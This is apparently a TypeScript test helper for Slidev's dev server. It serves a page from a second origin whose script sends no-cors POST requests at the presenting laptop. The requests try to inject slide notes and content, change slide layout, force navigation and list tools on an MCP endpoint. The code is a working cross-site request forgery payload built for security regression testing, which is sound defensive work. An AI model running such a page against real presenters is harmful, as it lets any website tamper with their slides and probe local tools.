/**
 * A page of another origin (127.0.0.2, its own port) that fires the requests
 * any web page could send at a presenting laptop: `no-cors` fetches with a
 * text/plain body, which Slidev's dev server would parse as JSON.
 */
import { createServer, type Server } from 'node:http'

export interface Attacker {
  url: string
  close: () => Promise<void>
}

/** `target` is the presenting server (`http://localhost:PORT`). */
export function attackPage(target: string, slide: number, moveTo: number): string {
  const attempts = [
    [`/__slidev/slides/${slide}.json`, 'POST', { note: 'INJECTED NOTE', content: '# INJECTED SLIDE' }],
    [`/__slidev/slides/${slide}.json`, 'POST', { frontmatter: { layout: 'cover' }, skipHmr: true }],
    ['/@server-reactive/nav', 'POST', { data: { page: moveTo, clicks: 0, lastUpdate: { id: 'x', type: 'presenter', time: Date.now() } } }],
    ['/@server-reactive/nav', 'POST', { patch: { page: moveTo, clicks: 0, lastUpdate: { id: 'y', type: 'presenter', time: Date.now() } } }],
    ['/@server-ref/nav', 'POST', { patch: { page: moveTo } }],
    ['/__mcp', 'POST', { jsonrpc: '2.0', id: 1, method: 'tools/list' }],
  ]
  return `<!doctype html><title>another site</title><script>
    const attempts = ${JSON.stringify(attempts)};
    window.attackDone = Promise.all(attempts.map(([path, method, body]) =>
      fetch(${JSON.stringify(target)} + path, { method, mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify(body) })
        .then(() => 'sent', (error) => 'failed: ' + error)))
  </script>`
}

export async function serveAttacker(html: string, host = '127.0.0.2'): Promise<Attacker> {
  const server: Server = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html; charset=utf-8')
    response.end(html)
  })
  await new Promise<void>((resolve) => server.listen(0, host, resolve))
  const address = server.address()
  const port = typeof address === 'object' && address ? address.port : 0
  return { url: `http://${host}:${port}/`, close: () => new Promise((resolve) => server.close(() => resolve())) }
}
